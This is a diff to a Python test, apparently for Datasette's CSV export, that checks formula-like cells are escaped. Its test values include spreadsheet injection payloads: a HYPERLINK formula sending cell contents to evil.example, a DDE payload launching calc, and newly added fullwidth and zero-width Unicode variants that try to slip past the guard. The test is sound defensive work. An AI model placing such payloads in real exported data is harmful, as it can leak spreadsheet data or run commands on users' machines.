@@ -589,7 +589,8 @@ def test_datasette_csv_export_guards_formulas(tmp_path):
     db_path = tmp_path / "csvguard.db"
     conn = sqlite3.connect(db_path)
     values = ['=HYPERLINK("http://evil.example/?"&A1, "Council news")', "@SUM(1+1)*cmd|' /C calc'!A0",
-              "+44 1905 123456 call now", "-2+3", "\tTab first", "Plain headline, with a comma", "-3", "+4.5"]
+              "+44 1905 123456 call now", "-2+3", "\tTab first", '\uff1dHYPERLINK("http://evil.example","x")',
+              "\u200b\uff20SUM(1+1)", " \uff0b1", "Plain headline, with a comma", "-3", "+4.5"]
     conn.execute("CREATE TABLE articles (id INTEGER PRIMARY KEY, title TEXT)")
     conn.executemany("INSERT INTO articles (title) VALUES (?)", [(v,) for v in values])
     conn.commit()
@@ -603,7 +604,7 @@ def test_datasette_csv_export_guards_formulas(tmp_path):
         return plain, streamed, as_json
 
     plain, streamed, as_json = asyncio.run(fetch())
-    expected = ["'" + v for v in values[:5]] + values[5:]
+    expected = ["'" + v for v in values[:8]] + values[8:]
     for response in (plain, streamed):
         assert response.status_code == 200
         rows = list(csv.DictReader(io.StringIO(response.text)))
